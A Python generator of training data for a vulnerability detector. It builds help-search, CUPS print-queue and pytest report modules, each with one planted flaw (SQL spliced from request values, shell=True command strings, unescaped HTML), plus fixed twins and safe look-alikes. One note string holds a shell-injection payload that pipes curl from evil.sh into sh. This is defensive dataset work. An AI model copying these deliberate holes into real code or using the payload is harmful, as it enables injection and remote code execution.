"""Train-only whole-module families weighted towards hard negatives (libs33 set, mod33s-*): ordinary library
modules of mature open-source packages (a SQLite FTS5 search blueprint of a help centre, a CUPS print-queue
blueprint, a pytest HTML report plugin, a self-update module of a CLI tool, a REST transport for a search cluster
and a pull-request labelling bot), dense with look-alike APIs used correctly (``?`` placeholders and f-strings that
only splice constant table names or allow-listed columns, ``subprocess.run`` argument lists with no shell,
``shlex.join`` only to show a command, ``html.escape`` / ``markupsafe.escape``, ``json`` instead of pickle,
``yaml.safe_load``, Ed25519 signatures checked before a manifest is used, ``hashlib.md5/sha1(...,
usedforsecurity=False)`` for fingerprints and anchors, ``tempfile.mkstemp`` + ``os.replace``, ``os.open`` with
0o600, requests with verification left on and timeouts, ``random`` for retry jitter), because the model raises
too many false alarms on such code. Each family renders a few weak modules whose single weak spot is one of those
idioms done wrong, each with its minimal fix as twin, and more ``@hardneg`` safe modules built from the same parts:

- mod33s-fts-help-search-value-spliced (89): one query of the help-centre search blueprint splices a request value
  into the SQL (the section filter, the ORDER BY column, or a suggest query that escapes FTS quotes but not SQL
  quotes); the fix binds the value or maps it through the allow-list of sort columns.
- mod33s-cups-print-queue-shell-string (78): the print blueprint runs ``lp`` / ``lpstat`` / ``cancel`` with
  argument lists, except one call built as a shell string with a request value (the job title or a job id); the
  fix passes an argument list.
- mod33s-pytest-html-report-unescaped-field (79): the HTML report plugin escapes every test field, except one (the
  failure text, the captured output, or the test id in a ``title`` attribute escaped with ``quote=False``); the fix
  escapes it (with quotes).
- mod33s-self-update-manifest-signature-optional (347): the updater verifies the release manifest's Ed25519
  signature, but accepts a manifest without one, or only logs a signature that does not verify; the fix refuses.
- mod33s-search-cluster-transport-plain-http (319): the cluster transport sends basic-auth credentials or an API
  key to every node, but turns a host without scheme, or a node address learnt by sniffing, into an ``http://``
  URL; the fix uses https.
- mod33s-pr-labeler-config-unsafe-yaml (502): the labelling bot reads its rules from the pull request's head commit
  and parses them with ``yaml.load(..., Loader=yaml.Loader)`` / ``yaml.unsafe_load``; the fix uses
  ``yaml.safe_load``.

Written from scratch without reading the held-out or validation families; every family here goes to train.
"""
import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P

_STDLIB = _web._STDLIB | {"ast", "base64", "collections", "contextlib", "csv", "datetime", "fnmatch", "functools",
                          "hmac", "html", "io", "bisect", "itertools", "pathlib", "platform", "shlex", "shutil", "sqlite3",
                          "stat", "subprocess", "sys", "tempfile", "time", "typing", "urllib", "uuid"}

_safe, _pair = _web.fix_builders(_STDLIB, lo=84, hi=116)

_N_PAIRS = 5
_N_HN = 8


def _mark(text, on, mark="  #@V"):
    """``text`` with ``mark`` appended to its (single) line when ``on``."""
    return text + mark if on else text


# ---------------- CWE-89: SQLite FTS5 help-centre search, one request value spliced into SQL ----------------

_FTS_DOCS = [
    "Full-text search for the $app help centre: a SQLite FTS5 index of the published articles, the search and\n"
    "suggestion endpoints, and the admin routes that keep the index fresh.",
    "$App search blueprint. Queries go to an FTS5 table; user text reaches SQLite only as bound parameters\n"
    "(quoted as FTS phrases), table and column names come from constants.",
    "Search endpoints of $app (FTS5 index in $table, snippets with highlighted matches, admin re-indexing).",
]


def _fts_kw(c):
    app = c.pick("kbase", "helpdock", "answerly", "faqtory", "docent", "guidepost")
    return dict(app=app, App=app.capitalize(), APP=app.upper(), log=c.pick("log", "logger"),
                table=c.pick("articles_fts", "kb_fts", "help_index", "article_search"),
                bp=c.pick("search", "help", "kb"), maxr=c.pick(25, 50, 100), sn=c.pick(12, 16, 24),
                terms=c.pick(6, 8, 10))


_FTS_SEARCH = '''
@bp.get("/search")
def search():
    """Full-text search over the published articles, best matches first."""
    q = request.args.get("q", "").strip()
    $SRC_SEC
    $SRC_ORD
    if not q:
        return jsonify(results=[])
    sql = (f"SELECT slug, title, section, snippet({FTS_TABLE}, 4, char(2), char(3), '…', $sn) AS excerpt"
           f" FROM {FTS_TABLE} WHERE {FTS_TABLE} MATCH ?")
    params: list = [fts_query(q)]
    if section:
        $SEC
    $ORD
    params.append(max(1, min(request.args.get("limit", 20, type=int), MAX_RESULTS)))
    $EXEC
    return jsonify(results=[dict(row, excerpt=highlight(row["excerpt"])) for row in rows])
'''

_FTS_SUGGEST = '''
@bp.get("/suggest")
def suggest():
    """Title completions for the search box: a prefix query restricted to the title column."""
    $SRC_SUG
    if len(prefix) < 2:
        return jsonify(titles=[])
    term = prefix.replace('"', '""')
    $SUG
    return jsonify(titles=[row["title"] for row in rows])
'''

_FTS_SPOTS = {
    "section": dict(
        src='section = request.args.get("section") or None',
        v='sql += f" AND section = \'{section}\'"  #@V',
        s=['sql += " AND section = ?"\n        params.append(section)'],
        what="the section filter of the search route is spliced into the SQL as a quoted literal"),
    "order": dict(
        src='sort = request.args.get("sort", "rank")',
        v='sql += f" ORDER BY {sort} LIMIT ?"  #@V',
        s=['sql += f" ORDER BY {SORT_COLUMNS.get(sort, \'rank\')} LIMIT ?"',
           'if sort not in SORT_COLUMNS:\n        abort(400, description="unknown sort order")\n'
           '    sql += f" ORDER BY {SORT_COLUMNS[sort]} LIMIT ?"'],
        what="the sort parameter of the search route is put into the ORDER BY clause as it is (the SORT_COLUMNS "
             "allow-list is defined but not used there)"),
    "suggest": dict(
        src='prefix = request.args.get("prefix", "").strip()[:40]',
        v='rows = get_db().execute(\n'
          '        f"SELECT title FROM {FTS_TABLE} WHERE {FTS_TABLE} MATCH \'title:\\"{term}\\"*\' ORDER BY rank LIMIT 8"  #@V\n'
          '    ).fetchall()',
        s=['rows = get_db().execute(\n'
           '        f"SELECT title FROM {FTS_TABLE} WHERE {FTS_TABLE} MATCH ? ORDER BY rank LIMIT 8", (f\'title:"{term}"*\',)\n'
           '    ).fetchall()'],
        what="the suggest route doubles the FTS double quotes of the prefix but puts it into a single-quoted SQL "
             "literal, so a ' ends the literal"),
}


def _fts_parts(c, target):
    fl = "from flask import Blueprint, abort, g, jsonify, request"
    spots = {}
    for key, sp in _FTS_SPOTS.items():
        spots[key] = "$FIX" if key == target else c.pick(*sp["s"])
    search = (_FTS_SEARCH.replace("$SRC_SEC", _mark(_FTS_SPOTS["section"]["src"], target == "section", "  #@S"))
              .replace("$SRC_ORD", _mark(_FTS_SPOTS["order"]["src"], target == "order", "  #@S"))
              .replace("$SEC", spots["section"]).replace("$ORD", spots["order"])
              .replace("$EXEC", _mark("rows = get_db().execute(sql, params).fetchall()", target in ("section", "order"))))
    suggest = (_FTS_SUGGEST.replace("$SRC_SUG", _mark(_FTS_SPOTS["suggest"]["src"], target == "suggest", "  #@S"))
               .replace("$SUG", spots["suggest"]))
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
DB_PATH = os.environ.get("$APP_SEARCH_DB", "/var/lib/$app/search.sqlite3")
FTS_TABLE = "$table"
MAX_RESULTS = $maxr
MAX_TERMS = $terms
SORT_COLUMNS = {"rank": "rank", "title": "title COLLATE NOCASE", "updated": "updated_at DESC"}'''),
        P("bp", rank=0, imp=fl, setup='bp = Blueprint("$bp", __name__, url_prefix="/$bp")'),
        P("db", rank=1, imp="import sqlite3\n" + fl, body='''
def get_db() -> sqlite3.Connection:
    """One connection per request (closed in teardown); rows behave like mappings."""
    if "search_db" not in g:
        db = sqlite3.connect(DB_PATH)
        db.row_factory = sqlite3.Row
        db.execute(f"CREATE VIRTUAL TABLE IF NOT EXISTS {FTS_TABLE} USING fts5(slug UNINDEXED, section UNINDEXED,"
                   " updated_at UNINDEXED, title, body, tokenize='porter unicode61')")
        db.execute("CREATE TABLE IF NOT EXISTS index_state (slug TEXT PRIMARY KEY, fingerprint TEXT NOT NULL)")
        g.search_db = db
    return g.search_db


@bp.teardown_app_request
def close_db(_exc: BaseException | None) -> None:
    db = g.pop("search_db", None)
    if db is not None:
        db.close()
'''),
        P("phrase", rank=1, body='''
def fts_query(text: str) -> str:
    """The user's words as quoted FTS5 phrases, so operators and column filters in the input are plain text."""
    return " ".join('"' + term.replace('"', '""') + '"' for term in text.split()[:MAX_TERMS])
'''),
        P("highlight", rank=1, imp="from markupsafe import escape", body='''
def highlight(excerpt: str) -> str:
    """Escape a snippet, then turn the match markers FTS5 put in (chars 2 and 3) into <mark> tags."""
    return str(escape(excerpt)).replace("\\x02", "<mark>").replace("\\x03", "</mark>")
'''),
        P("search", rank=3, imp=fl, body=search),
    ]
    sug = P("suggest", rank=3, imp=fl, body=suggest)
    pool = [
        P("index", rank=2, imp="import hashlib\nimport sqlite3", body='''
def index_article(db: sqlite3.Connection, slug: str, section: str, title: str, body: str, updated_at: str) -> bool:
    """(Re)index one article unless its content fingerprint is unchanged; True when the index changed."""
    fingerprint = hashlib.md5(f"{title}\\n{body}".encode(), usedforsecurity=False).hexdigest()
    row = db.execute("SELECT fingerprint FROM index_state WHERE slug = ?", (slug,)).fetchone()
    if row is not None and row["fingerprint"] == fingerprint:
        return False
    with db:
        db.execute(f"DELETE FROM {FTS_TABLE} WHERE slug = ?", (slug,))
        db.execute(f"INSERT INTO {FTS_TABLE} (slug, section, updated_at, title, body) VALUES (?, ?, ?, ?, ?)",
                   (slug, section, updated_at, title, body))
        db.execute("INSERT OR REPLACE INTO index_state (slug, fingerprint) VALUES (?, ?)", (slug, fingerprint))
    return True
'''),
        P("reindex", rank=4, needs=["index"], imp=fl + "\nfrom .auth import admin_required\nfrom .store import iter_published",
          body='''
@bp.post("/admin/reindex")
@admin_required
def reindex():
    """Re-index every published article (admins only); returns how many entries changed."""
    db = get_db()
    changed = sum(index_article(db, a.slug, a.section, a.title, a.body, a.updated_at.isoformat())
                  for a in iter_published())
    $log.info("search index refreshed, %d articles changed", changed)
    return jsonify(changed=changed)
'''),
        P("remove", rank=4, imp=fl + "\nfrom .auth import admin_required", body='''
@bp.delete("/admin/articles/<slug>")
@admin_required
def remove_article(slug: str):
    """Drop an unpublished article from the index."""
    db = get_db()
    with db:
        deleted = db.execute(f"DELETE FROM {FTS_TABLE} WHERE slug = ?", (slug,)).rowcount
        db.execute("DELETE FROM index_state WHERE slug = ?", (slug,))
    if not deleted:
        abort(404)
    $log.info("article %s removed from the index", slug)
    return "", 204
'''),
        P("sections", rank=4, imp=fl, body='''
@bp.get("/sections")
def sections():
    """Article count per section, for the filter menu next to the search box."""
    rows = get_db().execute(f"SELECT section, COUNT(*) AS n FROM {FTS_TABLE} GROUP BY section ORDER BY section")
    return jsonify({row["section"]: row["n"] for row in rows})
'''),
        P("optimize", rank=4, imp=fl + "\nfrom .auth import admin_required", body='''
@bp.post("/admin/optimize")
@admin_required
def optimize_index():
    """Merge the FTS5 b-tree segments (the special 'optimize' insert of FTS5 tables)."""
    with get_db() as db:
        db.execute(f"INSERT INTO {FTS_TABLE}({FTS_TABLE}) VALUES ('optimize')")
    return "", 204
'''),
        P("cache", rank=4, imp=fl, body='''
@bp.after_request
def cache_headers(response):
    """Search answers are public and change only when the index does."""
    if request.endpoint in ("$bp.search", "$bp.suggest", "$bp.sections"):
        response.headers.setdefault("Cache-Control", "public, max-age=60")
    return response
'''),
    ]
    if target == "suggest":
        core.append(sug)
    else:
        pool.append(sug)
    return core, pool


@fam("mod33s-fts-help-search-value-spliced", "CWE-89", fws=["flask"], n=_N_PAIRS, wrap=False)
def mod33s_fts(c):
    kw = _fts_kw(c)
    target = c.pick(*_FTS_SPOTS)
    core, pool = _fts_parts(c, target)
    sp = _FTS_SPOTS[target]
    v, s = _pair(c, c.pick(*_FTS_DOCS), '$log = logging.getLogger("$app.search")', core, pool, kw, sp["v"],
                 c.pick(*sp["s"]))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes=sp["what"] + ", so a client rewrites the query (UNION SELECT over other tables, or a boolean / "
                      "CASE expression that leaks other rows bit by bit); every other query binds its values with ? and "
                      "only splices the constant table name, and the fix binds this value too (or maps the sort key "
                      "through SORT_COLUMNS)")


@hardneg(_N_HN)
def mod33s_fts_hn(c):
    kw = _fts_kw(c)
    target = c.pick(*_FTS_SPOTS)
    core, pool = _fts_parts(c, target)
    code = _safe(c, c.pick(*_FTS_DOCS), '$log = logging.getLogger("$app.search")', core, pool, kw,
                 c.pick(*_FTS_SPOTS[target]["s"]))
    return Spec(s=code, full=True, fw="flask",
                notes="FTS5 search blueprint: user text bound with ? (quoted as FTS phrases), f-strings only splice the "
                      "constant table name or a column looked up in SORT_COLUMNS, md5(usedforsecurity=False) only "
                      "fingerprints article content, snippets escaped with markupsafe before <mark> tags are added")


# ---------------- CWE-78: CUPS print-queue router, one CUPS call built as a shell string ----------------

_CUPS_DOCS = [
    "Label and document printing for $app through the local CUPS server (lp, lpstat, cancel).\n"
    "Every CUPS client runs with an argument list; printers and media come from fixed tables or from lpstat.",
    "Print-queue routes of $app: queue item labels, list and cancel jobs, show the printers CUPS accepts jobs on.",
    "$App printing API (staff only). Label PDFs are rendered to a private temporary file and handed to lp.",
]


def _cups_kw(c):
    app = c.pick("shelfmark", "binlabel", "stockroom", "pickpack", "loanly", "archivist")
    return dict(app=app, App=app.capitalize(), log=c.pick("log", "logger"), tmo=c.pick(15, 20, 30),
                maxc=c.pick(10, 20, 50), maxi=c.pick(200, 500), pre=c.pick("printing", "print", "labels"))


_CUPS_SPOTS = {
    "title": dict(
        body='''
@router.post("/jobs", status_code=status.HTTP_202_ACCEPTED)
def submit_job(req: PrintRequest) -> dict:$SRC
    """Render the labels of the given items to a PDF and queue it on a printer."""
    if req.printer not in accepting_printers() or req.media not in MEDIA:
        raise HTTPException(status.HTTP_422_UNPROCESSABLE_ENTITY, "unknown printer or media")
    fd, pdf_path = tempfile.mkstemp(prefix="labels-", suffix=".pdf")
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(render_labels_pdf(req.item_ids, media=req.media))
        $FIX
    finally:
        os.unlink(pdf_path)
    job_id = out.split()[3] if out.startswith("request id is") else out.strip()
    $log.info("queued %s on %s (%d items)", job_id, req.printer, len(req.item_ids))
    return {"job": job_id}
''',
        v='out = subprocess.run(f"{LP} -d {req.printer} -n {req.copies} -t \'{req.title}\' -o media={MEDIA[req.media]} {pdf_path}",  #@V\n'
          '                             shell=True, capture_output=True, text=True, timeout=CUPS_TIMEOUT, check=True).stdout',
        s=['out = run_cups([LP, "-d", req.printer, "-n", str(req.copies), "-t", req.title,\n'
           '                        "-o", f"media={MEDIA[req.media]}", pdf_path])',
           'argv = [LP, "-d", req.printer, "-n", str(req.copies), "-t", req.title, "-o", f"media={MEDIA[req.media]}"]\n'
           '        out = run_cups(argv + [pdf_path])'],
        what="the submit route builds the lp command line as a string, with the client's job title between single "
             "quotes, and runs it with shell=True; a title containing ' ends the quoting"),
    "status": dict(
        body='''
@router.get("/jobs/{job_id}")
def job_status(job_id: str) -> dict:$SRC
    """State of one queued job, from the not-completed list of lpstat."""
    $FIX
    if not lines:
        raise HTTPException(status.HTTP_404_NOT_FOUND, "no such pending job")
    return {"job": job_id, "pending": True, "detail": lines[0]}
''',
        v='lines = subprocess.run(f"{LPSTAT} -W not-completed -o | grep -F {job_id}", shell=True,  #@V\n'
          '                           capture_output=True, text=True, timeout=CUPS_TIMEOUT).stdout.splitlines()',
        s=['lines = [line for line in run_cups([LPSTAT, "-W", "not-completed", "-o"]).splitlines()\n'
           '             if line.split(" ", 1)[0] == job_id]',
           'out = run_cups([LPSTAT, "-W", "not-completed", "-o"])\n'
           '    lines = [line for line in out.splitlines() if line.partition(" ")[0] == job_id]'],
        what="the job-status route pipes lpstat into grep through a shell string that ends with the job id from "
             "the URL path"),
}


def _cups_parts(c, target):
    fa = "from fastapi import APIRouter, Depends, HTTPException, status"
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import re\nimport shutil", const='''
LP = shutil.which("lp") or "/usr/bin/lp"
LPSTAT = shutil.which("lpstat") or "/usr/bin/lpstat"
CANCEL = shutil.which("cancel") or "/usr/bin/cancel"
CUPS_TIMEOUT = $tmo
MEDIA = {"label-small": "Custom.62x29mm", "label-large": "Custom.102x152mm", "a4": "A4", "letter": "Letter"}
JOB_ID_RE = re.compile(r"[A-Za-z0-9_.]+-[0-9]+")'''),
        P("router", rank=0, imp=fa + "\nfrom .auth import require_staff",
          setup='router = APIRouter(prefix="/$pre", tags=["$pre"], dependencies=[Depends(require_staff)])'),
        P("run", rank=1, imp="import subprocess\n" + fa, body='''
def run_cups(argv: list[str]) -> str:
    """Run a CUPS client with an argument list (no shell); its stdout, or 502 when CUPS refuses."""
    $log.debug("running %r", argv)
    try:
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=CUPS_TIMEOUT, check=True)
    except subprocess.CalledProcessError as exc:
        $log.warning("%s exited with %d: %s", argv[0], exc.returncode, exc.stderr.strip())
        raise HTTPException(status.HTTP_502_BAD_GATEWAY, "the print server refused the request") from None
    except subprocess.TimeoutExpired:
        raise HTTPException(status.HTTP_504_GATEWAY_TIMEOUT, "the print server did not answer") from None
    return proc.stdout
'''),
        P("accepting", rank=1, body='''
def accepting_printers() -> list[str]:
    """Names of the printers that accept jobs (first word of each line of ``lpstat -a``)."""
    return [line.split(" ", 1)[0] for line in run_cups([LPSTAT, "-a"]).splitlines() if line.strip()]
'''),
    ]
    sp = _CUPS_SPOTS[target]
    tbody = sp["body"].replace("$SRC", "  #@S")
    core.append(P("t_" + target, rank=3, imp=fa + "\nimport os\nimport subprocess\nimport tempfile\n"
                  "from .labels import render_labels_pdf", body=tbody,
                  needs=["model"] if target == "title" else ()))
    pool = [
        P("model", rank=1, imp="from pydantic import BaseModel, Field", body='''
class PrintRequest(BaseModel):
    printer: str = Field(min_length=1, max_length=127)
    title: str = Field(default="$app labels", max_length=120)
    item_ids: list[int] = Field(min_length=1, max_length=$maxi)
    media: str = "label-small"
    copies: int = Field(default=1, ge=1, le=$maxc)
'''),
        P("printers", rank=4, imp=fa, body='''
@router.get("/printers")
def list_printers() -> dict:
    """Printers that accept jobs, the default one, and the media sizes this app knows."""
    default = run_cups([LPSTAT, "-d"]).rpartition(": ")[2].strip() or None
    return {"printers": accepting_printers(), "default": default, "media": sorted(MEDIA)}
'''),
        P("cancel", rank=4, imp=fa, body='''
@router.delete("/jobs/{job_id}", status_code=status.HTTP_204_NO_CONTENT)
def cancel_job(job_id: str) -> None:
    """Cancel one queued job; the id must look like "<printer>-<number>" (so it can never be an option)."""
    if not JOB_ID_RE.fullmatch(job_id):
        raise HTTPException(status.HTTP_422_UNPROCESSABLE_ENTITY, "malformed job id")
    run_cups([CANCEL, job_id])
    $log.info("cancelled print job %s", job_id)
'''),
        P("queue", rank=4, imp=fa, body='''
@router.get("/jobs")
def pending_jobs() -> list[dict]:
    """Jobs CUPS has not completed yet: id, owner and size, parsed from ``lpstat -o``."""
    jobs = []
    for line in run_cups([LPSTAT, "-W", "not-completed", "-o"]).splitlines():
        fields = line.split(None, 3)
        if len(fields) >= 3 and fields[2].isdigit():
            jobs.append({"job": fields[0], "owner": fields[1], "bytes": int(fields[2])})
    return jobs
'''),
        P("testpage", rank=4, imp=fa + "\nfrom pathlib import Path", const='TEST_PAGE = Path("/usr/share/cups/data/testprint")',
          body='''
@router.post("/printers/{printer}/test-page", status_code=status.HTTP_202_ACCEPTED)
def print_test_page(printer: str) -> dict:
    """Queue the CUPS test page on a printer that lpstat lists as accepting jobs."""
    if printer not in accepting_printers():
        raise HTTPException(status.HTTP_404_NOT_FOUND, "unknown printer")
    out = run_cups([LP, "-d", printer, "-t", "$app test page", str(TEST_PAGE)])
    return {"job": out.split()[3] if out.startswith("request id is") else out.strip()}
'''),
        P("health", rank=4, imp=fa, body='''
@router.get("/health")
def cups_health() -> dict:
    """Whether the CUPS scheduler runs (``lpstat -r``) and the client tools are installed."""
    tools = {name: bool(shutil.which(name)) for name in ("lp", "lpstat", "cancel")}
    try:
        running = "not running" not in run_cups([LPSTAT, "-r"])
    except HTTPException:
        running = False
    return {"scheduler": running, "tools": tools}
'''),
    ]
    for key, other in _CUPS_SPOTS.items():
        if key != target:
            pool.append(P("t_" + key, rank=4, imp=fa + "\nimport os\nimport tempfile\nfrom .labels import render_labels_pdf",
                          body=other["body"].replace("$SRC", "").replace("$FIX", c.pick(*other["s"])),
                          needs=["model"] if key == "title" else ()))
    return core, pool


@fam("mod33s-cups-print-queue-shell-string", "CWE-78", fws=["fastapi"], n=_N_PAIRS, wrap=False)
def mod33s_cups(c):
    kw = _cups_kw(c)
    target = c.pick(*_CUPS_SPOTS)
    core, pool = _cups_parts(c, target)
    sp = _CUPS_SPOTS[target]
    v, s = _pair(c, c.pick(*_CUPS_DOCS), '$log = logging.getLogger("$app.printing")', core, pool, kw, sp["v"],
                 c.pick(*sp["s"]))
    return Spec(v=v, s=s, full=True, fw="fastapi",
                notes=sp["what"] + ", so a value like x'; curl evil.sh | sh; ' (or x; id) runs commands as the web "
                      "service; every other CUPS call goes through run_cups with an argument list, and the fix "
                      "uses it here too (the debug log line shows the argument list with %r, so a title cannot start a new "
                      "log line)")


@hardneg(_N_HN)
def mod33s_cups_hn(c):
    kw = _cups_kw(c)
    target = c.pick(*_CUPS_SPOTS)
    core, pool = _cups_parts(c, target)
    code = _safe(c, c.pick(*_CUPS_DOCS), '$log = logging.getLogger("$app.printing")', core, pool, kw,
                 c.pick(*_CUPS_SPOTS[target]["s"]))
    return Spec(s=code, full=True, fw="fastapi",
                notes="print-queue router: lp / lpstat / cancel run with argument lists and timeouts (the argument "
                      "list logged with %r), printers checked against lpstat -a, media from a fixed table, job ids "
                      "full-matched before cancel, label PDFs in a mkstemp file removed afterwards")


# ---------------- CWE-79: pytest HTML report plugin, one test field put into the page unescaped ----------------

_REP_DOCS = [
    "Self-contained HTML report for pytest runs (``--$opt=PATH``).\n\n"
    "Every value that comes from a test run (ids, failure text, captured output) is escaped before it goes into\n"
    "the page; the data for the client-side filter is embedded as JSON with ``<`` escaped.",
    "$Plug: a one-file HTML report of a pytest session (summary, one row per test, failure details, environment).",
    "HTML reporting for $plug. CI publishes the report as a build artefact, so test output is treated as untrusted\n"
    "text and escaped.",
]


def _rep_kw(c):
    plug = c.pick("pytest-glance", "pytest-overview", "pytest-tally", "pytest-ledger", "pytest-lantern")
    return dict(plug=plug, Plug=plug, opt=plug.split("-")[1] + "-html", dest=plug.split("-")[1] + "_html",
                attr="_" + plug.split("-")[1] + "_report", maxcap=c.pick(20_000, 50_000, 100_000),
                Report=c.pick("HtmlReport", "HtmlReporter", "ReportWriter"))


_REP_SPOTS = {
    "longrepr": dict(
        src='"longrepr": str(report.longrepr) if report.longrepr else "",',
        v='details.append(f\'<pre class="longrepr">{row["longrepr"]}</pre>\')  #@V',
        s=['details.append(f\'<pre class="longrepr">{html.escape(row["longrepr"])}</pre>\')',
           'details.append(\'<pre class="longrepr">\' + html.escape(row["longrepr"]) + "</pre>")'],
        what="the failure text (assertion message, repr of the compared values) goes into the <pre> block raw"),
    "captured": dict(
        src='"captured": (report.capstdout + report.capstderr)[:MAX_CAPTURE],',
        v='details.append(f\'<details><summary>captured output</summary><pre>{row["captured"]}</pre></details>\')  #@V',
        s=['details.append(f\'<details><summary>captured output</summary><pre>{html.escape(row["captured"])}</pre>\'\n'
           '                       "</details>")'],
        what="the captured stdout/stderr of the test goes into the <details> block raw"),
    "title": dict(
        src='"nodeid": report.nodeid,',
        v='title = html.escape(row["nodeid"], quote=False)  #@V',
        s=['title = html.escape(row["nodeid"])', 'title = html.escape(row["nodeid"], quote=True)'],
        what="the full test id (with its parametrize ids, built from the test data) is escaped with quote=False and "
             "put into a double-quoted title attribute, so a \" in a parameter ends the attribute"),
}

_REP_ROW = '''
def render_row(row: dict) -> str:
    """One <tbody> per test: the summary line and, for failures, the details."""
    cls = OUTCOME_CLASS.get(row["outcome"], "warn")
    $TITLE
    $EMIT
    details = []
    if row["longrepr"]:
        $LONGREPR
    if row["captured"]:
        $CAPTURED
    if details:
        lines.append('<tr class="details"><td colspan="3">' + "".join(details) + "</td></tr>")
    return "\\n".join(lines + ["</tbody>"])
'''

_REP_COLLECT = '''
class $Report:
    """Collects one row per test (and per failing setup/teardown) and writes the page at session end."""

    def __init__(self, path: str) -> None:
        self.path = os.path.abspath(path)
        self.rows: list[dict] = []
        self.started = datetime.datetime.now(datetime.timezone.utc)

    def pytest_runtest_logreport(self, report: pytest.TestReport) -> None:
        if report.when != "call" and not (report.failed or report.skipped):
            return
        self.rows.append({
            $SRC_ID
            "outcome": "error" if report.when != "call" and report.failed else report.outcome,
            "duration": report.duration,
            $SRC_LR
            $SRC_CAP
        })

    def pytest_sessionfinish(self, session: pytest.Session) -> None:
        write_atomic(self.path, render_page(self.rows, self.started))
'''


def _rep_parts(c, target):
    fills = {}
    for key, sp in _REP_SPOTS.items():
        fills[key] = "$FIX" if key == target else c.pick(*sp["s"])
    emit_mark = target == "title"
    row = (_REP_ROW.replace("$TITLE", fills["title"]).replace("$LONGREPR", fills["longrepr"])
           .replace("$CAPTURED", fills["captured"])
           .replace("$EMIT", "lines = [f'<tbody class=\"{cls}\" id=\"{anchor(row[\"nodeid\"])}\">',\n"
                    "             f'<tr><td class=\"name\" title=\"{title}\">{html.escape(short_name(row[\"nodeid\"]))}</td>'"
                    + ("  #@V" if emit_mark else "") + "\n"
                    "             f'<td>{html.escape(row[\"outcome\"])}</td><td>{row[\"duration\"]:.2f}s</td></tr>']"))
    collect = _REP_COLLECT
    for key, tok in (("title", "$SRC_ID"), ("longrepr", "$SRC_LR"), ("captured", "$SRC_CAP")):
        collect = collect.replace(tok, _mark(_REP_SPOTS[key]["src"], target == key, "  #@S"))
    core = [
        P("consts", rank=0, const='''
MAX_CAPTURE = $maxcap
OUTCOME_CLASS = {"passed": "ok", "failed": "fail", "error": "fail", "skipped": "skip", "xfailed": "skip", "xpassed": "warn"}'''),
        P("collect", rank=3, imp="import datetime\nimport os\nimport pytest", body=collect, needs=["write", "page"]),
        P("row", rank=2, imp="import html", body=row, needs=["anchor", "short"]),
        P("anchor", rank=1, imp="import hashlib", body='''
def anchor(nodeid: str) -> str:
    """A stable, HTML-safe element id for a test (a fingerprint, not a security measure)."""
    return "t-" + hashlib.sha1(nodeid.encode(), usedforsecurity=False).hexdigest()[:12]
'''),
        P("short", rank=1, body='''
def short_name(nodeid: str) -> str:
    """The test id without its directory part, which is the same for most rows."""
    path, sep, rest = nodeid.partition("::")
    return path.rsplit("/", 1)[-1] + sep + rest
'''),
        P("page", rank=2, imp="import datetime\nimport html\nimport json", needs=["row"], body='''
def render_page(rows: list[dict], started: datetime.datetime) -> str:
    """The whole document; the rows' data for the client-side filter is JSON with "<" escaped."""
    counts: dict[str, int] = {}
    for row in rows:
        counts[row["outcome"]] = counts.get(row["outcome"], 0) + 1
    summary = ", ".join(f"{n} {html.escape(outcome)}" for outcome, n in sorted(counts.items()))
    data = json.dumps([{"id": anchor(r["nodeid"]), "outcome": r["outcome"]} for r in rows]).replace("<", "\\\\u003c")
    return "\\n".join([
        "<!DOCTYPE html>", '<html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
        "<title>Test report</title>",
        f"<style>{CSS}</style></head><body>",
        f"<h1>Test report</h1><p>{summary} (started {started:%Y-%m-%d %H:%M} UTC)</p>",
        '<table class="results">', *(render_row(r) for r in rows), "</table>",
        f'<script type="application/json" id="report-data">{data}</script>', "</body></html>",
    ])
''', const='CSS = "body{font:14px sans-serif} .fail td{background:#fdd} .ok td{background:#dfd} pre{white-space:pre-wrap}"'),
        P("write", rank=1, imp="import os\nimport tempfile", body='''
def write_atomic(path: str, text: str) -> None:
    """Write next to the final name and move into place, so a viewer never sees half a page."""
    directory = os.path.dirname(path) or "."
    os.makedirs(directory, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=directory, prefix=".report-", suffix=".html")
    try:
        with os.fdopen(fd, "w", encoding="utf-8") as fh:
            fh.write(text)
        os.replace(tmp, path)
    except BaseException:
        os.unlink(tmp)
        raise
'''),
    ]
    pool = [
        P("hooks", rank=1, imp="import pytest", body='''
def pytest_addoption(parser: pytest.Parser) -> None:
    group = parser.getgroup("$plug")
    group.addoption("--$opt", dest="$dest", metavar="PATH", default=None, help="write an HTML report to PATH")


def pytest_configure(config: pytest.Config) -> None:
    path = config.getoption("$dest")
    if path and not hasattr(config, "workerinput"):  # xdist workers report through the controller
        config.$attr = $Report(path)
        config.pluginmanager.register(config.$attr)


def pytest_unconfigure(config: pytest.Config) -> None:
    reporter = getattr(config, "$attr", None)
    if reporter is not None:
        del config.$attr
        config.pluginmanager.unregister(reporter)
'''),
        P("rerun", rank=2, imp="import html\nimport shlex", body='''
def rerun_hint(nodeid: str) -> str:
    """The command that re-runs one test, shown escaped under a failure (shlex.join only builds the text)."""
    return f'<p class="rerun"><code>{html.escape(shlex.join(["python", "-m", "pytest", nodeid]))}</code></p>'
'''),
        P("slowest", rank=2, imp="import html", body='''
def slowest_table(rows: list[dict], count: int = 10) -> str:
    """The slowest tests, longest first, as an escaped table."""
    top = sorted(rows, key=lambda r: r["duration"], reverse=True)[:count]
    cells = "".join(f'<tr><td>{html.escape(r["nodeid"])}</td><td>{r["duration"]:.2f}s</td></tr>' for r in top)
    return f'<table class="slowest"><caption>Slowest tests</caption>{cells}</table>'
'''),
        P("jsonsum", rank=2, imp="import json\nimport os\nimport tempfile", body='''
def write_json_summary(path: str, rows: list[dict]) -> None:
    """Machine-readable summary next to the page (json, never pickle), replaced atomically."""
    fd, tmp = tempfile.mkstemp(dir=os.path.dirname(path) or ".", suffix=".json")
    with os.fdopen(fd, "w", encoding="utf-8") as fh:
        json.dump([{k: r[k] for k in ("nodeid", "outcome", "duration")} for r in rows], fh, indent=1)
    os.replace(tmp, os.path.splitext(path)[0] + ".json")
'''),
